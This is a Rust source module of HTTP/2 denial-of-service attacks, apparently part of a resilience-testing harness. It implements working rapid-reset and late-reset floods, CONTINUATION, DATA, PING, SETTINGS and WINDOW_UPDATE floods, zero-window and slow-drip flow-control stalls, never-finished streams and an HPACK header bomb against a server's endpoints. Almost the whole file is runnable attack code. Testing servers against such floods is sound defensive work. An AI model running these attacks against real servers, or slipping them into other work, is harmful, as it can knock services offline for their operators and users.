//! HTTP/2 frame floods, rapid reset, streams that never end, and flow-control windows that stay closed.

use std::io;
use std::rc::Rc;
use std::time::Duration;

use tokio::time::sleep;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY,
    RST_STREAM, RawHttp2Connection, SETTINGS, WINDOW_UPDATE, frame, get, hpack_string, post,
};
use super::http1::LARGE_LIST;
use super::{AttackConnection, ConnectionEnd};

/// Concurrent streams that the server allows.
const STREAMS: u32 = 100;
/// Frames in one write.
const BATCH: u32 = 100;

/// The id of the client's stream with this number.
fn stream_id(number: u32) -> u32 {
    number * 2 + 1
}

/// Sends an opening and then batches, each made from the number of its first action.
async fn flood(
    front: &AttackConnection,
    opening: &[u8],
    actions: u32,
    batch: impl Fn(u32) -> Vec<u8>,
) -> io::Result<ConnectionEnd> {
    let link = RawHttp2Connection::open(front, &[]).await?;
    let flooding = async {
        link.send(opening).await;
        for number in (0..u32::MAX / 4).step_by(usize::try_from(actions).unwrap_or(1)) {
            front.wait_for_actions(actions).await;
            link.send(&batch(number)).await;
        }
    };
    tokio::select! {
        end = link.wait_for_close() => Ok(end),
        () = flooding => Ok(ConnectionEnd::Disconnected),
    }
}

fn concat_frames(actions: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..actions).flat_map(one).collect()
}

pub(super) async fn rapid_reset(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    let pair = |number| {
        let head = frame(
            HEADERS,
            END_STREAM | END_HEADERS,
            stream_id(number),
            &get("/customers?limit=20"),
        );
        [head, frame(RST_STREAM, 0, stream_id(number), &8_u32.to_be_bytes())].concat()
    };
    flood(&front, b"", BATCH, |first| concat_frames(BATCH, |n| pair(first + n))).await
}

/// The reset arrives after the server has begun to handle the request.
pub(super) async fn late_reset(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    const TOGETHER: u32 = 20;
    let link = RawHttp2Connection::open(&front, &[]).await?;
    let flooding = async {
        for first in (0..u32::MAX / 4).step_by(20) {
            front.wait_for_actions(TOGETHER).await;
            let heads = concat_frames(TOGETHER, |n| {
                let block = get("/customers?limit=1");
                frame(HEADERS, END_STREAM | END_HEADERS, stream_id(first + n), &block)
            });
            link.send(&heads).await;
            sleep(Duration::from_millis(2)).await;
            let resets = concat_frames(TOGETHER, |n| {
                frame(RST_STREAM, 0, stream_id(first + n), &8_u32.to_be_bytes())
            });
            link.send(&resets).await;
        }
    };
    tokio::select! {
        end = link.wait_for_close() => Ok(end),
        () = flooding => Ok(ConnectionEnd::Disconnected),
    }
}

pub(super) async fn continuation(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    let opening = frame(HEADERS, END_STREAM, stream_id(0), &get("/customers"));
    let one = [&[0][..], &hpack_string("x"), &hpack_string("y")].concat();
    let batch = concat_frames(BATCH, |_| frame(CONTINUATION, 0, stream_id(0), &one));
    flood(&front, &opening, BATCH, |_| batch.clone()).await
}

async fn data(front: &AttackConnection, payload: &[u8]) -> io::Result<ConnectionEnd> {
    let opening = frame(HEADERS, END_HEADERS, stream_id(0), &post("/customers"));
    let batch = concat_frames(BATCH, |_| frame(DATA, 0, stream_id(0), payload));
    flood(front, &opening, BATCH, |_| batch.clone()).await
}

pub(super) async fn empty_data(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    data(&front, b"").await
}

pub(super) async fn one_byte_data(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    data(&front, b" ").await
}

pub(super) async fn pings(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    let batch = concat_frames(BATCH, |_| frame(PING, 0, 0, b"attacker"));
    flood(&front, b"", BATCH, |_| batch.clone()).await
}

pub(super) async fn settings(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    // MAX_CONCURRENT_STREAMS, which only matters to a server that pushes.
    let batch = concat_frames(BATCH, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]));
    flood(&front, b"", BATCH, |_| batch.clone()).await
}

pub(super) async fn window_updates(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    let opening = frame(HEADERS, END_HEADERS, stream_id(0), &post("/customers"));
    let batch = concat_frames(BATCH, |n| frame(WINDOW_UPDATE, 0, n % 2, &1_u32.to_be_bytes()));
    flood(&front, &opening, BATCH, |_| batch.clone()).await
}

pub(super) async fn ignored_frames(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    let batch = concat_frames(BATCH / 2, |n| {
        [frame(PRIORITY, 0, stream_id(n), &[0, 0, 0, 0, 16]), frame(0x42, 0, 0, b"unknown")]
            .concat()
    });
    flood(&front, b"", BATCH, |_| batch.clone()).await
}

/// Requests large lists on as many streams as the server allows, with a flow-control window of zero;
/// then opens the windows by this many bytes, again and again.
async fn request_without_window(
    front: &AttackConnection,
    window_bytes: Option<u32>,
) -> io::Result<ConnectionEnd> {
    let link = RawHttp2Connection::open(front, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
    // WINDOW_UPDATE frames are limited, so few are sent.
    let streams = if window_bytes.is_some() { STREAMS / 10 } else { STREAMS };
    let asking = async {
        for number in 0..streams {
            front.wait_for_actions(1).await;
            let block = get(LARGE_LIST);
            link.send(&frame(HEADERS, END_STREAM | END_HEADERS, stream_id(number), &block)).await;
        }
        let Some(bytes) = window_bytes else { return std::future::pending().await };
        loop {
            let open = |n| frame(WINDOW_UPDATE, 0, stream_id(n), &bytes.to_be_bytes());
            link.send(&concat_frames(streams, open)).await;
            sleep(Duration::from_millis(500)).await;
        }
    };
    tokio::select! {
        end = link.wait_for_close() => Ok(end),
        () = asking => Ok(ConnectionEnd::Disconnected),
    }
}

pub(super) async fn zero_window(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    request_without_window(&front, None).await
}

/// A little progress on every stream, but never an end.
pub(super) async fn window_drip(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    request_without_window(&front, Some(100)).await
}

/// Requests whose bodies never arrive.
pub(super) async fn open_streams(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    front.wait_for_actions(STREAMS).await;
    let link = RawHttp2Connection::open(&front, &[]).await?;
    let heads =
        concat_frames(STREAMS, |n| frame(HEADERS, END_HEADERS, stream_id(n), &post("/customers")));
    link.send(&heads).await;
    Ok(link.wait_for_close().await)
}

/// HPACK bomb: one long header is put into the dynamic table and then referenced thousands of times.
pub(super) async fn header_bomb(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    const NAMED: usize = 10_000;
    let head = |number: u32| {
        let mut block = get("/customers?limit=1");
        block.extend([&[0x40][..], &hpack_string("x"), &hpack_string(&"y".repeat(4_000))].concat());
        block.extend([0xbe; NAMED]);
        frame(HEADERS, END_STREAM | END_HEADERS, stream_id(number), &block)
    };
    flood(&front, b"", 1, head).await
}

pub(super) async fn unfinished_head(front: Rc<AttackConnection>) -> io::Result<ConnectionEnd> {
    front.wait_for_actions(1).await;
    let link = RawHttp2Connection::open(&front, &[]).await?;
    link.send(&frame(HEADERS, END_STREAM, stream_id(0), &get("/customers"))).await;
    Ok(link.wait_for_close().await)
}
